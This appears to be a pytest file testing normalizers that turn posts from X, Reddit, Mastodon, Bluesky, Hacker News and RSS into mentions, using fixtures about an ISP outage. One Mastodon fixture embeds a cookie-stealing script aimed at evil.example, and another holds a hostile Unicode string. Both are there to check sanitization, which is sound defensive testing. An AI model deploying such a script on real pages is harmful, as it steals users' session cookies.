"""The platform normalizers: each platform's real JSON shape becomes a Mention; a field
that is missing or of the wrong type becomes None; only a post without an id is
refused; the author's text arrives intact."""

from __future__ import annotations

import copy
import json
import subprocess
import sys
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from listener.bluesky import mention_from_post
from listener.hackernews import mention_from_hit
from listener.mastodon import mention_from_status
from listener.mention import Mention
from listener.normalize import MalformedPost, html_to_text, parse_any_time
from listener.reddit import mention_from_thing
from listener.rss import mention_from_entry
from listener.x import mention_from_tweet

RECORDED = Path(__file__).parent / "data" / "api"


def recorded_bodies(path: str) -> list[Any]:
    exchanges = json.loads((RECORDED / path).read_text(encoding="utf-8"))
    return [e["body"] for e in exchanges if e["method"] == "GET" and e["status"] == 200]


def recorded_children(path: str) -> list[dict[str, Any]]:
    return [child for body in recorded_bodies(path) for child in body["data"]["children"]]


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=UTC)


# -- realistic payloads, one per platform ------------------------------------------------


def tweet_page() -> dict[str, Any]:
    """A search page with tweet.fields and expansions as Earful asks for them."""
    return {
        "data": [
            {
                "id": "2123000907418009471",
                "text": "Update: Lumenet's status page now says 'major incident'. No ETA.",
                "edit_history_tweet_ids": ["2123000907418009471"],
                "author_id": "1587113009",
                "created_at": "2026-11-18T10:30:41.000Z",
                "conversation_id": "2122995869871872178",
                "in_reply_to_user_id": "1587113009",
                "lang": "en",
                "public_metrics": {
                    "retweet_count": 402,
                    "reply_count": 188,
                    "like_count": 1650,
                    "quote_count": 37,
                },
                "referenced_tweets": [{"type": "replied_to", "id": "2122995869871872178"}],
            }
        ],
        "includes": {
            "users": [
                {"id": "99", "name": "Someone Else", "username": "someone"},
                {
                    "id": "1587113009",
                    "name": "Priya Raman",
                    "username": "priya_talks_tech",
                    "verified": True,
                    "public_metrics": {"followers_count": 486000, "following_count": 812},
                },
            ],
            "tweets": [
                {"id": "2122995869871872178", "text": "Lumenet seems to be down across the north."},
                {"id": "1", "text": "an unrelated tweet on the same page"},
            ],
        },
        "meta": {"result_count": 1, "newest_id": "2123000907418009471"},
    }


def reddit_comment() -> dict[str, Any]:
    return {
        "kind": "t1",
        "data": {
            "id": "nb77q77",
            "name": "t1_nb77q77",
            "author": "router_woes",
            "author_fullname": "t2_9x8k2m1q",
            "body": "Message sent, thanks for actually responding.",
            "link_id": "t3_1pq45bv",
            "link_title": "Hub 3 keeps rebooting every few hours since firmware 3.2.1",
            "parent_id": "t1_nb77pnf",
            "score": 21,
            "subreddit": "LumenetUK",
            "created_utc": 1795081500.0,
            "permalink": "/r/LumenetUK/comments/1pq45bv/hub_3_keeps_rebooting/nb77q77/",
        },
    }


def reddit_submission() -> dict[str, Any]:
    return {
        "kind": "t3",
        "data": {
            "id": "1pq420s",
            "name": "t3_1pq420s",
            "author": "throwaway_billing42",
            "title": "Charged twice for November — anyone else?",
            "selftext": "Two identical £42.00 payments to Lumenet.",
            "score": 57,
            "num_comments": 31,
            "num_crossposts": 1,
            "subreddit": "LumenetUK",
            "created_utc": 1794905725.0,
            "permalink": "/r/LumenetUK/comments/1pq420s/charged_twice_for_november/",
        },
    }


def mastodon_status() -> dict[str, Any]:
    return {
        "id": "117643465916448081",
        "created_at": "2026-11-19T14:00:31.000Z",
        "in_reply_to_id": "117643348672555734",
        "in_reply_to_account_id": "109000000000000001",
        "sensitive": False,
        "spoiler_text": "",
        "visibility": "public",
        "language": "en",
        "uri": "https://mastodon.online/users/dotty/statuses/117643465916556330",
        "url": "https://mastodon.online/@dotty/117643465916556330",
        "replies_count": 0,
        "reblogs_count": 1,
        "favourites_count": 5,
        "content": '<p><span class="h-card" translate="no">'
        '<a href="https://mastodon.social/@lumenet" class="u-url mention">'
        "@<span>lumenet</span></a></span> found them, thank you! "
        "Quick &amp; helpful 👍</p>",
        "reblog": None,
        "account": {
            "id": "109000000000000002",
            "username": "dotty",
            "acct": "dotty@mastodon.online",
            "display_name": "Dotty",
            "bot": False,
            "url": "https://mastodon.online/@dotty",
            "followers_count": 264,
        },
        "media_attachments": [],
        "mentions": [],
        "tags": [],
    }


def bluesky_post() -> dict[str, Any]:
    did = "did:plc:7kq2wv5mzjxq3hbd4fyr2nla"
    root = "at://did:plc:7kq2wv5mzjxq3hbd4fyr2nla/app.bsky.feed.post/3n2l337k4ln3d"
    return {
        "uri": f"at://{did}/app.bsky.feed.post/3n2l5dvuu7v26",
        "cid": "bafyreiabc",
        "author": {
            "did": did,
            "handle": "dralexkhan.com",
            "displayName": "Dr Alex Khan",
            "followersCount": 95400,
            "verification": {"verifiedStatus": "valid", "trustedVerifierStatus": "none"},
        },
        "record": {
            "$type": "app.bsky.feed.post",
            "createdAt": "2026-11-18T08:30:12.000Z",
            "langs": ["en"],
            "text": "Update: Lumenet say it's a power failure at a core site. No ETA.",
            "reply": {
                "root": {"cid": "bafyreiroot", "uri": root},
                "parent": {"cid": "bafyreiroot", "uri": root},
            },
        },
        "replyCount": 41,
        "repostCount": 211,
        "likeCount": 904,
        "quoteCount": 3,
        "indexedAt": "2026-11-18T08:30:13.112Z",
        "labels": [],
    }


def hn_comment() -> dict[str, Any]:
    return {
        "_tags": ["comment", "author_netops_anon", "story_48195494"],
        "author": "netops_anon",
        "comment_text": "Former Lumenet NOC engineer here.<p>"
        "It was on the risk register &quot;every&quot; "
        'quarter. See <a href="https:&#x2F;&#x2F;status.lumenet.example">the status page</a>.',
        "created_at": "2026-11-18T09:20:44Z",
        "created_at_i": 1794993644,
        "objectID": "48195627",
        "parent_id": 48195494,
        "story_id": 48195494,
        "story_title": "Lumenet outage: large UK ISP down across northern England",
        "story_url": "https://news.northernpost.example/tech/lumenet-outage",
        "points": None,
    }


def hn_story() -> dict[str, Any]:
    return {
        "_tags": ["story", "author_homelab_hal_q", "story_48188288", "ask_hn"],
        "author": "homelab_hal_q",
        "created_at": "2026-11-17T15:00:05Z",
        "created_at_i": 1794927605,
        "num_comments": 18,
        "objectID": "48188288",
        "points": 23,
        "story_id": 48188288,
        "title": "Ask HN: Anyone running their own router behind a Lumenet Hub 3?",
        "story_text": "I&#x27;d like to put pfSense behind it.<p>Is modem mode a real thing?",
    }


def rss_entry() -> dict[str, Any]:
    return {
        "title": "Lumenet suffers major outage across northern England",
        "link": "https://broadbandbulletin.example/2026/11/lumenet-major-outage-north.html",
        "id": "https://broadbandbulletin.example/?p=41902",
        "published": "Wed, 18 Nov 2026 09:30:25 +0000",
        "summary": "<p>Customers of Lumenet have reported a loss of service.</p>"
        "<p><em>Update:</em> a &quot;major incident&quot;.</p>",
        "summary_detail": {"type": "text/html", "language": "en-gb", "value": "..."},
        "author": "Mark Jackson",
        "author_detail": {"name": "Mark Jackson", "href": "https://broadbandbulletin.example/mark"},
    }


FEED = "https://broadbandbulletin.example/feed/"

# name -> (normalizer taking the payload, the payload)
EXAMPLES: dict[str, tuple[Callable[[Any], Mention], Callable[[], Any]]] = {
    "x": (
        lambda p: mention_from_tweet(p.get("tweet"), p.get("includes")),
        lambda: {"tweet": tweet_page()["data"][0], "includes": tweet_page()["includes"]},
    ),
    "reddit-t1": (mention_from_thing, reddit_comment),
    "reddit-t3": (mention_from_thing, reddit_submission),
    "mastodon": (mention_from_status, mastodon_status),
    "bluesky": (mention_from_post, bluesky_post),
    "hackernews-comment": (mention_from_hit, hn_comment),
    "hackernews-story": (mention_from_hit, hn_story),
    "rss": (lambda p: mention_from_entry(p, FEED, "Broadband Bulletin"), rss_entry),
}


# -- X ---------------------------------------------------------------------------------


def test_recorded_search_tweets_become_mentions_with_id_and_text() -> None:
    (page,) = recorded_bodies("x/search_recent_tweets.json")
    mentions = [mention_from_tweet(t, page.get("includes")) for t in page["data"]]
    assert [m.native_id for m in mentions] == [t["id"] for t in page["data"]]
    assert [m.text for m in mentions] == [t["text"] for t in page["data"]]
    assert all(m.platform == "x" for m in mentions)


def test_recorded_tweets_without_fields_leave_the_rest_none() -> None:
    (page,) = recorded_bodies("x/get_users_mentions.json")
    m = mention_from_tweet(page["data"][0])
    assert m.author.handle is None and m.author.followers is None
    assert (m.created_at, m.lang, m.likes, m.conversation_id, m.in_reply_to) == (None,) * 5
    # X opens any tweet by id when the author's name is unknown
    assert m.url == f"https://x.com/i/web/status/{m.native_id}"


def test_recorded_tweet_text_is_kept_exactly() -> None:
    (body,) = recorded_bodies("x/get_tweet.json")
    m = mention_from_tweet(body["data"])
    assert m.text == body["data"]["text"]
    assert "🥁" in m.text and "\n\n" in m.text


def test_tweet_with_fields_and_expansions_fills_every_field() -> None:
    page = tweet_page()
    m = mention_from_tweet(page["data"][0], page["includes"])
    assert m.native_id == "2123000907418009471"
    assert m.url == "https://x.com/priya_talks_tech/status/2123000907418009471"
    assert m.author.handle == "priya_talks_tech"
    assert m.author.name == "Priya Raman"
    assert m.author.followers == 486000
    assert m.author.verified is True
    assert m.author.native_id == "1587113009"
    assert m.author.url == "https://x.com/priya_talks_tech"
    assert m.created_at == at("2026-11-18T10:30:41")
    assert (m.lang, m.likes, m.reposts, m.replies) == ("en", 1650, 402, 188)
    assert m.conversation_id == "2122995869871872178"
    assert m.in_reply_to == "2122995869871872178"


def test_tweet_context_is_the_text_it_answers() -> None:
    page = tweet_page()
    m = mention_from_tweet(page["data"][0], page["includes"])
    assert m.context == "Lumenet seems to be down across the north."


def test_tweet_raw_keeps_only_the_includes_it_refers_to() -> None:
    page = tweet_page()
    m = mention_from_tweet(page["data"][0], page["includes"])
    assert m.raw is not None
    assert m.raw["data"] == page["data"][0]
    assert [u["username"] for u in m.raw["includes"]["users"]] == ["priya_talks_tech"]
    assert [t["id"] for t in m.raw["includes"]["tweets"]] == ["2122995869871872178"]


def test_quoted_tweet_is_context_but_not_in_reply_to() -> None:
    tweet = {
        "id": "5",
        "text": "'intermittent' is doing a lot of heavy lifting",
        "referenced_tweets": [{"type": "quoted", "id": "4"}],
    }
    m = mention_from_tweet(tweet, {"tweets": [{"id": "4", "text": "intermittent drops"}]})
    assert m.context == "intermittent drops"
    assert m.in_reply_to is None


def test_tweet_lang_und_means_unknown() -> None:
    assert mention_from_tweet({"id": "1", "text": "🙃", "lang": "und"}).lang is None


def test_tweet_verified_type_counts_as_verification() -> None:
    includes = {"users": [{"id": "7", "username": "nw", "verified_type": "business"}]}
    assert mention_from_tweet({"id": "1", "text": "", "author_id": "7"}, includes).author.verified
    includes = {"users": [{"id": "7", "username": "nw", "verified_type": "none"}]}
    assert (
        mention_from_tweet({"id": "1", "text": "", "author_id": "7"}, includes).author.verified
        is False
    )


def test_long_tweet_text_comes_whole_from_note_tweet() -> None:
    long = "lumenet " * 60
    tweet = {"id": "1", "text": long[:280] + "…", "note_tweet": {"text": long}}
    assert mention_from_tweet(tweet).text == long


def test_tweet_numeric_id_becomes_a_string() -> None:
    assert mention_from_tweet({"id": 2123000907418009471, "text": "x"}).native_id == (
        "2123000907418009471"
    )


@pytest.mark.parametrize("tweet", [{}, {"id": ""}, {"id": None}, {"id": True}, {"id": 1.5}])
def test_tweet_without_a_usable_id_is_malformed(tweet: dict[str, Any]) -> None:
    with pytest.raises(MalformedPost):
        mention_from_tweet(tweet)


# -- Reddit ----------------------------------------------------------------------------


def test_recorded_inbox_mentions_normalize() -> None:
    children = recorded_children("reddit/TestInbox.test_mentions.json")
    mentions = [mention_from_thing(c) for c in children]
    assert len(mentions) == 16
    first, data = mentions[0], children[0]["data"]
    assert first.native_id == "t1_ekftbox"
    assert first.text == data["body"]
    assert first.author.handle == "2Botter2Loop"
    assert first.in_reply_to == "t3_bb24k7"
    assert first.created_at == datetime.fromtimestamp(1554774308, UTC)
    assert first.likes == 1


def test_inbox_item_without_permalink_links_to_its_context() -> None:
    thing = recorded_children("reddit/TestInbox.test_mentions.json")[0]
    m = mention_from_thing(thing)
    assert "permalink" not in thing["data"] and "link_id" not in thing["data"]
    assert m.url == (
        "https://www.reddit.com/r/RemovedByBotter/comments/bb24k7/"
        "just_a_normal_girl_going_for_her_10th_class_exam/ekftbox/"
    )
    assert m.conversation_id == "t3_bb24k7"


def test_inbox_comment_does_not_claim_the_thread_comment_count_as_replies() -> None:
    thing = recorded_children("reddit/TestInbox.test_mentions.json")[0]
    assert thing["data"]["num_comments"] == 1
    assert mention_from_thing(thing).replies is None


def test_recorded_search_submissions_join_title_and_selftext() -> None:
    children = recorded_children("reddit/TestSubreddit.test_search.json")
    m = mention_from_thing(children[0])
    data = children[0]["data"]
    assert m.native_id == "t3_3gpbiu"
    assert m.text == data["title"] + "\n\n" + data["selftext"]
    # search results' permalinks carry ?ref=search_posts, which is not part of the post
    assert data["permalink"].endswith("/?ref=search_posts")
    assert m.url == "https://www.reddit.com" + data["permalink"].removesuffix("?ref=search_posts")
    assert m.conversation_id == "t3_3gpbiu"
    assert m.in_reply_to is None
    assert (m.likes, m.replies) == (data["score"], data["num_comments"])


def test_recorded_link_submission_text_is_its_title() -> None:
    children = recorded_children("reddit/TestSubredditStreams.test_submissions.first-page.json")
    link_post = next(c for c in children if not c["data"]["selftext"])
    assert mention_from_thing(link_post).text == link_post["data"]["title"]


def test_recorded_stream_comment_without_permalink_gets_a_working_url() -> None:
    children = recorded_children("reddit/TestSubredditStreams.test_comments.first-page.json")
    m = mention_from_thing(children[0])
    assert m.url == "https://www.reddit.com/r/coins/comments/5jffj1/_/dbhn11d/"
    assert m.conversation_id == "t3_5jffj1"
    assert all(mention_from_thing(c).native_id.startswith("t1_") for c in children)


def test_recorded_comment_reply_response_normalizes() -> None:
    exchanges = json.loads((RECORDED / "reddit/TestComment.test_reply.json").read_text("utf-8"))
    (thing,) = exchanges[-1]["body"]["json"]["data"]["things"]
    m = mention_from_thing(thing)
    assert (m.native_id, m.text, m.in_reply_to) == ("t1_d1680wu", "Comment reply", "t1_d1616q2")
    assert m.conversation_id == "t3_4b1tfm"


def test_reddit_comment_fields() -> None:
    m = mention_from_thing(reddit_comment())
    assert m.native_id == "t1_nb77q77"
    assert m.url == (
        "https://www.reddit.com/r/LumenetUK/comments/1pq45bv/hub_3_keeps_rebooting/nb77q77/"
    )
    assert m.author.handle == "router_woes"
    assert m.author.native_id == "t2_9x8k2m1q"
    assert m.author.url == "https://www.reddit.com/user/router_woes"
    assert (m.conversation_id, m.in_reply_to) == ("t3_1pq45bv", "t1_nb77pnf")
    assert m.context == "Hub 3 keeps rebooting every few hours since firmware 3.2.1"
    assert m.likes == 21


def test_reddit_submission_counts() -> None:
    m = mention_from_thing(reddit_submission())
    assert (m.likes, m.reposts, m.replies) == (57, 1, 31)


@pytest.mark.parametrize("author", ["[deleted]", "[removed]", None])
def test_reddit_author_gone_means_no_handle(author: str | None) -> None:
    thing = reddit_comment()
    thing["data"]["author"] = author
    m = mention_from_thing(thing)
    assert m.author.handle is None and m.author.url is None


@pytest.mark.parametrize("kind", ["t4", "t5", "more", 3])
def test_reddit_thing_that_is_not_a_post_is_malformed(kind: Any) -> None:
    with pytest.raises(MalformedPost, match="kind"):
        mention_from_thing({"kind": kind, "data": {"id": "abc", "name": "x_abc"}})


def test_reddit_fullname_is_built_from_kind_and_id_when_name_is_missing() -> None:
    thing = reddit_comment()
    del thing["data"]["name"]
    assert mention_from_thing(thing).native_id == "t1_nb77q77"


@pytest.mark.parametrize(
    "thing", [{"kind": "t1", "data": {}}, {"kind": "t1"}, {"kind": "t3", "data": []}]
)
def test_reddit_thing_without_id_is_malformed(thing: dict[str, Any]) -> None:
    with pytest.raises(MalformedPost):
        mention_from_thing(thing)


# -- Mastodon --------------------------------------------------------------------------


def test_mastodon_status_fields() -> None:
    m = mention_from_status(mastodon_status())
    assert m.native_id == "117643465916448081"
    assert m.url == "https://mastodon.online/@dotty/117643465916556330"
    assert m.text == "@lumenet found them, thank you! Quick & helpful 👍"
    assert m.author.handle == "dotty@mastodon.online"
    assert (m.author.name, m.author.followers, m.author.verified) == ("Dotty", 264, None)
    assert m.author.url == "https://mastodon.online/@dotty"
    assert m.created_at == at("2026-11-19T14:00:31")
    assert (m.lang, m.likes, m.reposts, m.replies) == ("en", 5, 1, 0)
    assert m.in_reply_to == "117643348672555734"
    # a Status names its parent but not its thread's root
    assert m.conversation_id is None


def test_mastodon_local_account_handle_gets_its_server() -> None:
    status = mastodon_status()
    status["account"].update(acct="lumenet", url="https://mastodon.social/@lumenet")
    assert mention_from_status(status).author.handle == "lumenet@mastodon.social"


def test_mastodon_html_paragraphs_and_breaks_become_newlines() -> None:
    status = mastodon_status()
    status["content"] = "<p>first line<br>second line<br />third</p><p>new paragraph &lt;3</p>"
    assert mention_from_status(status).text == "first line\nsecond line\nthird\n\nnew paragraph <3"


def test_mastodon_link_keeps_its_whole_text() -> None:
    status = mastodon_status()
    status["content"] = (
        '<p>see <a href="https://status.lumenet.example/incidents/42"><span class="invisible">'
        'https://</span><span class="ellipsis">status.lumenet.example/inc</span><span '
        'class="invisible">idents/42</span></a></p>'
    )
    assert mention_from_status(status).text == "see https://status.lumenet.example/incidents/42"


def test_mastodon_script_and_style_are_dropped_and_the_rest_kept() -> None:
    status = mastodon_status()
    status["content"] = (
        "<p>my broadband &amp; app are down 🙃</p>"
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        "<style>p{display:none}</style>"
        "<p>&lt;script&gt;alert(1)&lt;/script&gt; \u200fمرحبا\u200f</p>"
    )
    text = mention_from_status(status).text
    assert "evil.example" not in text and "display:none" not in text
    assert text == "my broadband & app are down 🙃\n\n<script>alert(1)</script> \u200fمرحبا\u200f"


def test_mastodon_boost_is_the_boosted_post() -> None:
    original = mastodon_status()
    boost = {
        "id": "117636563796025602",
        "content": "",
        "reblog": original,
        "account": {"acct": "ravi@mas.to", "url": "https://mas.to/@ravi"},
        "created_at": "2026-11-19T15:00:00.000Z",
    }
    m = mention_from_status(boost)
    assert m.native_id == original["id"]
    assert m.author.handle == "dotty@mastodon.online"
    assert m.text.startswith("@lumenet found them")
    assert m.raw == boost


def test_mastodon_content_warning_comes_before_the_content() -> None:
    status = mastodon_status()
    status.update(spoiler_text="lumenet rant", content="<p>four outages in a month</p>")
    assert mention_from_status(status).text == "lumenet rant\n\nfour outages in a month"


def test_mastodon_pleroma_conversation_id_is_used_when_sent() -> None:
    status = mastodon_status()
    status["pleroma"] = {"conversation_id": 8812}
    assert mention_from_status(status).conversation_id == "8812"


def test_mastodon_status_without_account_has_no_author() -> None:
    status = mastodon_status()
    del status["account"]
    assert mention_from_status(status).author.handle is None


def test_mastodon_status_without_id_is_malformed() -> None:
    status = mastodon_status()
    del status["id"]
    with pytest.raises(MalformedPost):
        mention_from_status(status)


# -- Bluesky ---------------------------------------------------------------------------


def test_bluesky_post_fields() -> None:
    post = bluesky_post()
    m = mention_from_post(post)
    assert m.native_id == post["uri"]
    assert m.url == "https://bsky.app/profile/dralexkhan.com/post/3n2l5dvuu7v26"
    assert m.text == post["record"]["text"]
    assert m.author.handle == "dralexkhan.com"
    assert (m.author.name, m.author.followers, m.author.verified) == ("Dr Alex Khan", 95400, True)
    assert m.author.native_id == "did:plc:7kq2wv5mzjxq3hbd4fyr2nla"
    assert m.created_at == at("2026-11-18T08:30:12")
    assert (m.lang, m.likes, m.reposts, m.replies) == ("en", 904, 211, 41)


def test_bluesky_reply_names_its_thread_root_and_parent() -> None:
    post = bluesky_post()
    m = mention_from_post(post)
    assert m.conversation_id == post["record"]["reply"]["root"]["uri"]
    assert m.in_reply_to == post["record"]["reply"]["parent"]["uri"]


def test_bluesky_post_that_answers_nothing_starts_its_own_thread() -> None:
    post = bluesky_post()
    del post["record"]["reply"]
    m = mention_from_post(post)
    assert (m.conversation_id, m.in_reply_to) == (post["uri"], None)


def test_bluesky_quoted_post_text_is_context() -> None:
    post = bluesky_post()
    post["embed"] = {
        "$type": "app.bsky.embed.record#view",
        "record": {"$type": "app.bsky.embed.record#viewRecord", "value": {"text": "We're sorry."}},
    }
    assert mention_from_post(post).context == "We're sorry."


def test_bluesky_feed_item_is_unwrapped() -> None:
    assert mention_from_post({"post": bluesky_post()}).native_id == bluesky_post()["uri"]


def test_bluesky_invalid_handle_links_by_did() -> None:
    post = bluesky_post()
    post["author"]["handle"] = "handle.invalid"
    m = mention_from_post(post)
    assert m.author.handle is None
    assert m.url == ("https://bsky.app/profile/did:plc:7kq2wv5mzjxq3hbd4fyr2nla/post/3n2l5dvuu7v26")


def test_bluesky_basic_profile_has_no_follower_count() -> None:
    post = bluesky_post()
    del post["author"]["followersCount"], post["author"]["verification"]
    m = mention_from_post(post)
    assert (m.author.followers, m.author.verified) == (None, None)


def test_bluesky_missing_created_at_falls_back_to_indexed_at() -> None:
    post = bluesky_post()
    del post["record"]["createdAt"]
    assert mention_from_post(post).created_at == datetime(2026, 11, 18, 8, 30, 13, 112000, UTC)


@pytest.mark.parametrize("uri", [None, "", "https://bsky.app/profile/x/post/y", 42])
def test_bluesky_post_without_at_uri_is_malformed(uri: Any) -> None:
    post = bluesky_post()
    post["uri"] = uri
    with pytest.raises(MalformedPost):
        mention_from_post(post)


# -- Hacker News -----------------------------------------------------------------------


def test_hn_comment_fields() -> None:
    m = mention_from_hit(hn_comment())
    assert m.native_id == "48195627"
    assert m.url == "https://news.ycombinator.com/item?id=48195627"
    assert m.text == (
        'Former Lumenet NOC engineer here.\n\nIt was on the risk register "every" quarter. '
        "See the status page."
    )
    assert m.author.handle == "netops_anon"
    assert m.author.url == "https://news.ycombinator.com/user?id=netops_anon"
    assert m.created_at == datetime.fromtimestamp(1794993644, UTC)
    assert (m.conversation_id, m.in_reply_to) == ("48195494", "48195494")
    assert m.context == "Lumenet outage: large UK ISP down across northern England"
    assert m.likes is None


def test_hn_story_joins_title_and_text() -> None:
    m = mention_from_hit(hn_story())
    assert m.text == (
        "Ask HN: Anyone running their own router behind a Lumenet Hub 3?\n\n"
        "I'd like to put pfSense behind it.\n\nIs modem mode a real thing?"
    )
    assert (m.conversation_id, m.in_reply_to, m.context) == ("48188288", None, None)
    assert (m.likes, m.replies) == (23, 18)


def test_hn_hit_without_tags_is_told_apart_by_its_fields() -> None:
    hit = hn_comment()
    del hit["_tags"]
    assert mention_from_hit(hit).in_reply_to == "48195494"


def test_hn_created_at_falls_back_to_the_iso_string() -> None:
    hit = hn_comment()
    del hit["created_at_i"]
    assert mention_from_hit(hit).created_at == at("2026-11-18T09:20:44")


def test_hn_hit_without_object_id_is_malformed() -> None:
    hit = hn_story()
    del hit["objectID"]
    with pytest.raises(MalformedPost):
        mention_from_hit(hit)


# -- RSS -------------------------------------------------------------------------------


def test_rss_entry_fields() -> None:
    m = mention_from_entry(rss_entry(), FEED, "Broadband Bulletin")
    assert m.platform == "rss"
    assert m.native_id == "https://broadbandbulletin.example/?p=41902"
    assert m.url == "https://broadbandbulletin.example/2026/11/lumenet-major-outage-north.html"
    assert m.text == (
        "Lumenet suffers major outage across northern England\n\n"
        'Customers of Lumenet have reported a loss of service.\n\nUpdate: a "major incident".'
    )
    assert m.author.handle is None
    assert m.author.name == "Mark Jackson"
    assert m.author.url == "https://broadbandbulletin.example/mark"
    assert m.created_at == at("2026-11-18T09:30:25")
    assert m.lang == "en-gb"
    assert m.raw == {"entry": rss_entry(), "feed_url": FEED, "feed_title": "Broadband Bulletin"}


@pytest.mark.parametrize(
    ("fields", "expected"),
    [
        ({"published": "2026-11-18T09:30:25Z"}, at("2026-11-18T09:30:25")),
        ({"published": "Wed, 18 Nov 2026 10:30:25 +0100"}, at("2026-11-18T09:30:25")),
        ({"published": "Wed, 18 Nov 2026 09:30:25 GMT"}, at("2026-11-18T09:30:25")),
        ({"published": "soon", "updated": "2026-11-18T09:30:25+00:00"}, at("2026-11-18T09:30:25")),
        ({"published_parsed": [2026, 11, 18, 9, 30, 25, 2, 322, 0]}, at("2026-11-18T09:30:25")),
        ({"published": "last Tuesday"}, None),
        ({"published": ["Wed"]}, None),
    ],
)
def test_rss_dates_in_the_formats_feeds_use(fields: dict[str, Any], expected: Any) -> None:
    entry = {"id": "a", **fields}
    assert mention_from_entry(entry, FEED).created_at == expected


def test_rss_entry_without_id_uses_its_link_resolved_against_the_feed() -> None:
    m = mention_from_entry({"link": "/2026/11/post.html", "title": "Lumenet"}, FEED)
    assert m.native_id == m.url == "https://broadbandbulletin.example/2026/11/post.html"


def test_rss_entry_without_author_is_credited_to_the_feed() -> None:
    m = mention_from_entry({"id": "a", "title": "t"}, FEED, "Broadband Bulletin")
    assert m.author.name == "Broadband Bulletin"


def test_rss_atom_content_stands_in_for_a_missing_summary() -> None:
    entry = {"id": "a", "title": "t", "content": [{"type": "text/html", "value": "<p>body</p>"}]}
    assert mention_from_entry(entry, FEED).text == "t\n\nbody"


def test_rss_entry_with_neither_id_nor_link_is_malformed() -> None:
    with pytest.raises(MalformedPost, match="neither an id nor a link"):
        mention_from_entry({"title": "Lumenet"}, FEED)


# -- every normalizer -----------------------------------------------------------------

WRONG_VALUES: list[Any] = [
    None,
    7,
    -1.5,
    True,
    "lumenet",
    "",
    [],
    [None],
    {},
    {"x": 1},
    # JSON's 1e999 is infinity; a count too large for the database; not a number
    float("inf"),
    float("nan"),
    10**40,
]


def mutations(payload: Any, depth: int = 3) -> Iterator[tuple[str, Any]]:
    """Copies of payload with one field at a time (nested ones too) replaced by a
    value of the wrong type, or removed."""
    if depth == 0:
        return
    keys: Iterator[Any]
    if isinstance(payload, dict):
        keys = iter(list(payload))
    elif isinstance(payload, list):
        keys = iter(range(len(payload)))
    else:
        return
    for key in keys:
        for value in WRONG_VALUES:
            changed = copy.deepcopy(payload)
            changed[key] = value
            yield f"{key}={value!r}", changed
        if isinstance(payload, dict):
            changed = copy.deepcopy(payload)
            del changed[key]
            yield f"del {key}", changed
        for path, inner in mutations(payload[key], depth - 1):
            changed = copy.deepcopy(payload)
            changed[key] = inner
            yield f"{key}.{path}", changed


@pytest.mark.parametrize("example", list(EXAMPLES))
def test_any_field_missing_or_of_the_wrong_type_never_crashes(example: str) -> None:
    normalize, payload = EXAMPLES[example]
    tried = 0
    for path, changed in mutations(payload()):
        tried += 1
        try:
            m = normalize(changed)
        except MalformedPost:
            continue
        except Exception as exc:
            pytest.fail(f"{example}: {path} raised {exc!r}")
        assert isinstance(m.native_id, str) and m.native_id, path
        assert isinstance(m.text, str), path
        for count in (m.likes, m.reposts, m.replies, m.author.followers):
            assert count is None or (isinstance(count, int) and 0 <= count < 2**63), path
        for value in (m.url, m.lang, m.conversation_id, m.in_reply_to, m.author.handle):
            assert value is None or isinstance(value, str), path
    assert tried > 100


@pytest.mark.parametrize(
    "normalize",
    [
        mention_from_tweet,
        mention_from_thing,
        mention_from_status,
        mention_from_post,
        mention_from_hit,
        lambda entry: mention_from_entry(entry, FEED),
    ],
    ids=["x", "reddit", "mastodon", "bluesky", "hackernews", "rss"],
)
@pytest.mark.parametrize("payload", [None, [], "lumenet", 42])
def test_a_payload_that_is_not_an_object_is_malformed(
    normalize: Callable[[Any], Mention], payload: Any
) -> None:
    with pytest.raises(MalformedPost):
        normalize(payload)


@pytest.mark.parametrize("example", list(EXAMPLES))
def test_raw_keeps_the_payload(example: str) -> None:
    normalize, payload = EXAMPLES[example]
    m = normalize(payload())
    assert m.raw is not None
    assert json.loads(json.dumps(m.raw)) == m.raw  # storable as it is


# -- hostile text ---------------------------------------------------------------------

# What an attacker or a broken client can put in a post, decoded from JSON escapes as a
# platform's JSON would carry it: a NUL, a lone surrogate, a right-to-left override,
# and 100 kB of text.
HOSTILE = json.loads(
    '"lumenet \\u0000 nul \\ud800 lone \\u202e!dnuf er\\u202c \\ufeff ' + "A" * 100_000 + ' end"'
)


def hostile_posts() -> dict[str, tuple[Callable[[Any], Mention], Any]]:
    return {
        "x": (mention_from_tweet, {"id": "1", "text": HOSTILE}),
        "reddit-t1": (
            mention_from_thing,
            {"kind": "t1", "data": {"name": "t1_a", "body": HOSTILE}},
        ),
        "reddit-t3": (
            mention_from_thing,
            {"kind": "t3", "data": {"name": "t3_a", "title": HOSTILE, "selftext": ""}},
        ),
        "mastodon": (mention_from_status, {"id": "1", "content": HOSTILE}),
        "bluesky": (
            mention_from_post,
            {"uri": "at://did:plc:a/app.bsky.feed.post/b", "record": {"text": HOSTILE}},
        ),
        "hackernews": (
            mention_from_hit,
            {"objectID": "1", "_tags": ["comment"], "comment_text": HOSTILE},
        ),
        "rss": (lambda e: mention_from_entry(e, FEED), {"id": "a", "summary": HOSTILE}),
    }


@pytest.mark.parametrize("platform", list(hostile_posts()))
def test_hostile_text_survives_normalization_intact(platform: str) -> None:
    normalize, payload = hostile_posts()[platform]
    assert "\x00" in HOSTILE and "\ud800" in HOSTILE and "\u202e" in HOSTILE
    assert normalize(payload).text == HOSTILE


def test_hostile_html_keeps_the_odd_characters_and_drops_the_script() -> None:
    status = {
        "id": "1",
        "content": f"<p>{HOSTILE}</p><script>{HOSTILE}</script><p>&#x1F4A9; &amp; \u200f</p>",
    }
    assert mention_from_status(status).text == HOSTILE + "\n\n💩 & \u200f"


# -- shared helpers -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("plain, no tags", "plain, no tags"),
        ("a  run   of\n spaces", "a run of spaces"),
        ("first<p>second", "first\n\nsecond"),
        ("<div><p>a</p>\n\n<p>b</p>\n</div>", "a\n\nb"),
        ("<ul><li>one</li><li>two</li></ul>after", "one\ntwo\n\nafter"),
        ("<pre><code>x = 1\n    y = 2</code></pre>", "x = 1\n    y = 2"),
        ("<!-- SC_OFF -->kept<!-- SC_ON -->", "kept"),
        ("a&nbsp;b &#39;c&#39; &#x27;d&#x27; &unknown; &", "a\xa0b 'c' 'd' &unknown; &"),
        ("before<script>never(<p>closed)", "before"),
        ("<b>bold</b> and <i>italic</i>", "bold and italic"),
        ("", ""),
    ],
)
